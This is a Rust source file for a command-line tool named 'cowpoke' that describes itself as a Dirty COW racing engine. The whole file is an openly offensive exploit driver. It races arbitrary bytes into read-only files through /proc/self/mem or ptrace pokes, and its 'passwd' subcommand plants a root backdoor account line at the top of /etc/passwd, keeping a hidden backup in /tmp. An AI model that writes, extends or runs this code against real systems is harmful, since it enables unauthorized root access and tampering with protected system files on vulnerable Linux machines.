use std::error::Error;
use std::path::{Path, PathBuf};

use clap::{Parser, Subcommand, ValueEnum};

use cowpoke::logging as log;
use cowpoke::mapping::RoMap;
use cowpoke::payload::UserInfo;
use cowpoke::race::poke::PtracePoke;
use cowpoke::race::selfmem::SelfMem;
use cowpoke::race::{self, RaceBudget, WriteStrategy};
use cowpoke::{context, stage};

type Result<T> = std::result::Result<T, Box<dyn Error>>;

#[derive(Parser)]
#[command(name = "cowpoke", version, about = "Dirty COW racing engine")]
struct Cli {
    /// Print debug output
    #[arg(short, long, global = true)]
    verbose: bool,

    /// Eviction advisory budget for the pressure inducer
    #[arg(long, global = true)]
    pressure_iters: Option<u64>,

    /// Full writer passes over the payload chunk list
    #[arg(long, global = true)]
    passes: Option<u64>,

    /// Poke attempts per word-sized payload chunk within one pass
    #[arg(long, global = true)]
    retries: Option<u64>,

    /// Advisory window size in bytes
    #[arg(long, global = true)]
    window: Option<usize>,

    #[command(subcommand)]
    cmd: Cmd,
}

#[derive(Clone, Copy, ValueEnum)]
enum Strategy {
    /// Raw writes through /proc/self/mem, pressure thread in-process
    Mem,
    /// PTRACE_POKEDATA into a forked victim running its own pressure loop
    Poke,
}

#[derive(Subcommand)]
enum Cmd {
    /// Race arbitrary bytes into a read-only file
    Write {
        target: PathBuf,
        data: String,

        /// Byte offset of the payload within the file
        #[arg(long, default_value_t = 0)]
        offset: usize,

        #[arg(long, value_enum, default_value = "mem")]
        strategy: Strategy,
    },

    /// Plant a root backdoor record at the top of a passwd file
    Passwd {
        #[arg(long)]
        user: String,

        #[arg(long)]
        password: String,

        #[arg(long, default_value = "/etc/passwd")]
        target: PathBuf,

        /// Where to stash a pristine copy of the target first
        #[arg(long, default_value = "/tmp/.cowpoke")]
        backup: PathBuf,

        #[arg(long, value_enum, default_value = "poke")]
        strategy: Strategy,
    },
}

fn budget_from(cli: &Cli) -> RaceBudget {
    let mut budget = context::access(|ctx| ctx.budget.clone());
    if let Some(iters) = cli.pressure_iters {
        budget.pressure_iters = iters;
    }
    if let Some(passes) = cli.passes {
        budget.writer_passes = passes;
    }
    if let Some(retries) = cli.retries {
        budget.retries_per_chunk = retries;
    }
    if let Some(window) = cli.window {
        budget.advisory_window = window;
    }
    budget
}

fn race_and_verify(
    target: &Path,
    offset: usize,
    payload: &[u8],
    strategy: Strategy,
    budget: &RaceBudget,
) -> Result<()> {
    let map = RoMap::open(target)?;

    let mut strategy: Box<dyn WriteStrategy> = match strategy {
        Strategy::Mem => Box::new(SelfMem::new()),
        Strategy::Poke => Box::new(PtracePoke::new()),
    };

    let report = race::run(&map, offset, payload, budget, strategy.as_mut())?;

    log::info(format!(
        "writer drained: {} poke attempts, {} failed",
        report.writer.attempts, report.writer.failures
    ));
    if let Some(pressure) = report.pressure {
        log::info(format!(
            "pressure drained: {} advisories, {} taken",
            pressure.iterations, pressure.advised
        ));
    }

    drop(map);

    if stage::verify(target, offset, payload)? {
        log::success(format!("payload committed to {}", target.display()));
    } else {
        log::warn(format!(
            "payload not observed in {}; race lost, rerun or raise the budgets",
            target.display()
        ));
    }

    Ok(())
}

fn main() {
    if let Err(err) = run(Cli::parse()) {
        log::error(&err);
        std::process::exit(1);
    }
}

fn run(cli: Cli) -> Result<()> {
    if cli.verbose {
        context::access(|ctx| {
            ctx.log_level = log::LogLevel::Debug;
        });
    }
    let budget = budget_from(&cli);

    match &cli.cmd {
        Cmd::Write {
            target,
            data,
            offset,
            strategy,
        } => {
            race_and_verify(target, *offset, data.as_bytes(), *strategy, &budget)?;
        }
        Cmd::Passwd {
            user,
            password,
            target,
            backup,
            strategy,
        } => {
            stage::backup(target, backup)?;
            log::info(format!("backed up {} to {}", target.display(), backup.display()));

            let record = UserInfo::backdoor(user, password)?;
            let line = record.passwd_line();
            race_and_verify(target, 0, line.as_bytes(), *strategy, &budget)?;
        }
    }

    Ok(())
}
